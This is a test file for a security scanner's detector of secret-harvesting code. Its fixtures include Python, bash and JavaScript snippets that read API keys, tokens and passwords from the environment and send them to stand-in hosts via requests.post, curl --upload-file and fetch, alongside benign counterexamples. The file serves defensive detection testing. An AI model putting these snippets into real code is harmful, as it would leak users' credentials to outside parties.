import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { type Case, check } from './cases.js';
import { runAll } from './make-context.js';

// Class: secret-named variables collected indirectly (a loop over a literal list of names read by computed
// name, an environment dump filtered by grep and staged in a file) and then sent or stored are E2.

const cases: Case[] = [
  {
    name: 'python loop over a tuple of secret names read with os.getenv, posted from another function',
    path: 'scripts/sync.py',
    text: 'import os\nimport requests\n\nKEYS = ("OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "DATABASE_PASSWORD")\n\n\ndef gather():\n    found = {}\n    for name in KEYS:\n        val = os.getenv(name)\n        if val:\n            found[name] = val\n    return found\n\n\ndef main():\n    requests.post("https://hooks.example-collector.io/in", json=gather(), timeout=10)\n\n\nmain()\n',
    expect: [['E2', 10]],
  },
  {
    name: 'dict comprehension over a list of secret names through an environ alias, saved to a JSON file',
    path: 'scripts/notes.py',
    text: 'import json\nimport os\n\nenv = os.environ\nNAMES = ["STRIPE_SECRET_KEY", "SLACK_BOT_TOKEN"]\nsnapshot = {n: env.get(n) for n in NAMES}\nwith open("deck/notes.json", "w") as fh:\n    json.dump(snapshot, fh)\n',
    expect: [['E2', 6]],
    absent: [],
  },
  {
    name: 'environment filtered by grep into a file that curl then uploads',
    path: 'scripts/diag.sh',
    text: '#!/bin/bash\nREPORT=/tmp/diag.txt\nprintenv | grep -iE "token|secret|passw" > "$REPORT"\ncurl -sS --max-time 20 --upload-file "$REPORT" https://drop.example-share.io/r\n',
    expect: [['E2', 3]],
  },
  {
    name: 'E2 starts where an environ alias is filtered for tokens, not at the alias line',
    path: 'scripts/publish.py',
    text: 'import os\nimport requests\n\nenv = os.environ\nBASE = "https://pages.example-notes.dev/api"\n\n\ndef extras():\n    return {k: v for k, v in env.items() if "TOKEN" in k or "SECRET" in k}\n\n\nrequests.post(BASE, json={"meta": extras()}, timeout=15)\n',
    expect: [['E2', 9]],
  },
  {
    name: 'JS: process.env alias filtered for keys and posted; reported at the filter',
    path: 'scripts/publish.js',
    text: 'const env = process.env;\nconst url = "https://pages.example-notes.dev/api";\n\nconst picked = Object.keys(env).filter((k) => /KEY|TOKEN/.test(k)).map((k) => env[k]);\nfetch(url, { method: "POST", body: JSON.stringify(picked), signal: AbortSignal.timeout(5000) });\n',
    expect: [['E2', 4]],
  },
  {
    name: 'no finding: required keys checked for presence before calling the declared API',
    path: 'scripts/check.py',
    text: 'import os\nimport sys\nimport requests\n\nREQUIRED = ("OPENAI_API_KEY", "OPENAI_ORG_TOKEN")\nmissing = [k for k in REQUIRED if not os.getenv(k)]\nif missing:\n    sys.exit("set " + ", ".join(missing))\nfor k in REQUIRED:\n    if os.getenv(k) is None:\n        sys.exit(1)\nrequests.post("https://api.example.org/v1/run", json={"q": sys.argv[1]}, timeout=30)\n',
    absent: ['E2'],
  },
  {
    name: 'no finding: a list of ordinary settings read by computed name',
    path: 'scripts/settings.py',
    text: 'import json\nimport os\n\nNAMES = ("LANG", "TZ", "EDITOR")\nprefs = {n: os.getenv(n) for n in NAMES}\njson.dump(prefs, open("prefs.json", "w"))\n',
    absent: ['E2'],
  },
  {
    name: 'no finding: environment grep only shown on the terminal',
    path: 'scripts/show.sh',
    text: '#!/bin/bash\nenv | grep -i proxy\n',
    absent: ['E2'],
  },
];

describe('fix: secret variables collected indirectly', () => {
  for (const c of cases) it(c.name, () => check(c));
});

describe('fix: E2 is not reported at an environ alias line', () => {
  it('starts at the first use of the alias', async () => {
    const c = cases.find((x) => x.path === 'scripts/publish.py')!;
    const hits = await runAll(codeDetectors, c.path, c.text);
    const e2 = hits.filter((h) => h.pattern === 'E2');
    expect(e2.length).toBeGreaterThan(0);
    for (const h of e2) expect(h.line).not.toBe(4);
  });
});
